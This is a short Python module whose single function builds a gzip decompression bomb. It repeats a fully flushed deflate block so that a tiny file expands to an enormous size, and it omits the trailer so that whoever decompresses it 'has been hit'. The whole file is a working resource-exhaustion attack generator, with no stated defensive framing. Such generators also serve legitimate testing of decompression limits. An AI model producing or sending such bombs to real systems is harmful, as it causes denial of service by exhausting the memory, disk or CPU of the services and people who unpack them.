"""Small files that unpack to something huge."""

import zlib


def gzip_bomb(block: bytes, times: int, start: bytes = b"") -> bytes:
    """A gzip stream of ``start`` and ``times`` blocks, made as fast as one block is packed.

    After a full flush deflate knows nothing of what came before, so the packed block may be repeated. The stream has
    no trailer: whoever unpacks that far has been hit.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + (packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)) * times
